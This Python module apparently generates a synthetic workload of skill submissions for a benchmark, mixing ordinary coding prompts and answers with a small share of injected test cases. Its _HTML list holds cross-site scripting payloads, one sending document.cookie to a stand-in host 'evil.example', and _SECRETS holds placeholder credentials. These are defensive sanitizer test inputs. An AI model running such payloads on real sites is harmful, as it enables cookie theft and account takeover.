"""Realistic submissions: ~300-character inputs, ~600-character outputs, golden and usage mixed."""

from __future__ import annotations

import random
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

from bench.world import World

GOLDEN_SHARE = 0.20
HTML_SHARE = 0.02
SECRET_SHARE = 0.02
# Code often holds a harmless `<` (comparisons, generics); the sanitizer must leave it alone.
ANGLE_SHARE = 0.10
INPUT_CHARS = (250, 350)
OUTPUT_CHARS = (500, 700)
POOL_SIZE = 256

_PROMPTS = (
    "How do I read a CSV file in Python and skip the header row? I tried next(reader) but the "
    "first data row disappears as well.",
    "Write a SQL query that returns the ten most active users per tenant over the last 30 days, "
    "ordered by the number of events.",
    "Explain why this fails to compile: let v = vec![1, 2, 3]; let first = &v[0]; v.push(4);",
    "Refactor this function so it does not loop over the items twice; keep the public signature.",
    "Summarize the following support ticket in two sentences for the on-call engineer.",
    "Convert this shell one-liner into a Python script: find . -name '*.log' -mtime +7 -delete",
    "Given the JSON below, return every order id whose total exceeds 100 as a sorted list: "
    '{"orders": [{"id": 17, "total": 120.5}, {"id": 18, "total": 80}]}',
    "Our deploy failed with exit code 137 in the build step. What does that usually mean and "
    "what should I check first?",
    "Add type hints to this module and make mypy --strict pass without changing behaviour.",
    "Translate the error message into plain language for a customer who is not technical.",
)
_ANSWERS = (
    "Use csv.DictReader, which consumes the header row for you:\n\nimport csv\n"
    "with open(path, newline='') as handle:\n    for row in csv.DictReader(handle):\n"
    "        print(row['name'])\n",
    "SELECT tenant_id, user_id, count(*) AS events FROM usage_events WHERE created_at > now() - "
    "interval '30 days' GROUP BY tenant_id, user_id ORDER BY events DESC LIMIT 10;",
    "The borrow checker rejects it because `first` holds a shared borrow of `v` while `push` "
    "needs a mutable one; copy the value out first: let first = v[0];",
    "Exit code 137 means the process received SIGKILL, almost always from the out-of-memory "
    "killer. Check the container's memory limit and the peak usage of the build.",
    "Collect the totals in one pass with a dictionary keyed by id, then sort the keys once at "
    "the end; this turns the quadratic loop into a linear one plus a sort.",
    "import pathlib, time\ncutoff = time.time() - 7 * 86400\nfor log in pathlib.Path('.')"
    ".rglob('*.log'):\n    if log.stat().st_mtime < cutoff:\n        log.unlink()\n",
    "The ticket reports that invoices created after the migration show the wrong currency. "
    "The customer needs a corrected invoice before Friday.",
    "Annotate every public function, replace the untyped dict with a TypedDict and add a "
    "Protocol for the storage backend so the tests can pass a fake.",
)
_ANGLES = (
    "if (a < b && b > c) { return a; }",
    "let bytes: Vec<u8> = Vec::<u8>::with_capacity(n);",
    "const ids: Array<string> = rows.map(r => r.id);",
    "assert 0 <= index < len(items), 'index out of range'",
    "x -> y when x < 10, otherwise y <- default",
)
_HTML = (
    '<img src=x onerror="alert(document.cookie)">',
    "<script>fetch('https://evil.example/?c=' + document.cookie)</script>",
    '<a href="javascript:alert(1)">click for the answer</a>',
    '<iframe src="https://evil.example/frame"></iframe>',
)
_SECRETS = (
    "aws_access_key_id = AKIAIOSFODNN7EXAMPLE",
    'password = "hunter2hunter2"',
    "export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE",
    "DATABASE_URL=postgres://app:hunter2hunter2@db.internal:5432/app",
)


def _compose(rng: random.Random, parts: tuple[str, ...], lengths: tuple[int, int]) -> str:
    target = rng.randint(*lengths)
    pieces: list[str] = []
    if rng.random() < ANGLE_SHARE:
        pieces.append(rng.choice(_ANGLES))
    while sum(len(p) + 1 for p in pieces) < target:
        pieces.append(rng.choice(parts))
    rng.shuffle(pieces)
    return " ".join(pieces)[:target].rstrip() or "x"


def _with(text: str, marker: str) -> str:
    """`text` of the same length with `marker` (an attack or a secret) inside it, intact."""
    keep = max(1, len(text) - len(marker) - 1)
    return f"{text[:keep]} {marker}"


class Workload:
    """Deterministic submissions for a world: the same seed and tag give the same submissions."""

    def __init__(self, world: World, seed: int) -> None:
        self.world = world
        self.seed = seed
        rng = random.Random(f"{seed}:texts")
        self.inputs = [_compose(rng, _PROMPTS, INPUT_CHARS) for _ in range(POOL_SIZE)]
        self.outputs = [_compose(rng, _ANSWERS, OUTPUT_CHARS) for _ in range(POOL_SIZE)]

    def submissions(self, tag: str, count: int) -> list[dict[str, Any]]:
        """`count` submission objects (the contract's JSON form); `tag` keeps events unique."""
        rng = random.Random(f"{self.seed}:{tag}")
        return [self._one(rng, tag, index) for index in range(count)]

    def chunks(self, tag: str, count: int, size: int) -> Iterator[list[dict[str, Any]]]:
        """The same submissions as `submissions(tag, count)`, made `size` at a time."""
        rng = random.Random(f"{self.seed}:{tag}")
        for start in range(0, count, size):
            yield [self._one(rng, tag, i) for i in range(start, min(count, start + size))]

    def _one(self, rng: random.Random, tag: str, index: int) -> dict[str, Any]:
        world = self.world
        tenant = world.tenants[rng.randrange(len(world.tenants))]
        skills = world.skills[tenant]
        skill = skills[rng.randrange(len(skills))]
        example_input = self.inputs[rng.randrange(POOL_SIZE)]
        example_output = self.outputs[rng.randrange(POOL_SIZE)]
        special = rng.random()
        if special < HTML_SHARE:
            example_output = _with(example_output, rng.choice(_HTML))
        elif special < HTML_SHARE + SECRET_SHARE:
            example_input = _with(example_input, rng.choice(_SECRETS))
        submission: dict[str, Any] = {
            "submission_id": str(uuid.UUID(int=rng.getrandbits(128), version=4)),
            "tenant_id": tenant,
            "skill_id": skill.id,
            "example_input": example_input,
            "example_output": example_output,
            "submitted_at": datetime.now(UTC).isoformat(),
        }
        if rng.random() < GOLDEN_SHARE:
            submission["kind"] = "golden_example"
            submission["user_id"] = skill.author_id
            submission["quality_score"] = rng.randint(6, 10)
        else:
            users = world.users[tenant]
            submission["kind"] = "usage_capture"
            submission["user_id"] = users[rng.randrange(len(users))]
            submission["usage_event_id"] = f"{tag}-{index}"
        return submission


def describe() -> dict[str, Any]:
    """The mix, as recorded in the results."""
    return {
        "golden_share": GOLDEN_SHARE,
        "usage_share": 1 - GOLDEN_SHARE,
        "html_share": HTML_SHARE,
        "secret_share": SECRET_SHARE,
        "harmless_angle_bracket_share": ANGLE_SHARE,
        "input_chars": list(INPUT_CHARS),
        "output_chars": list(OUTPUT_CHARS),
    }
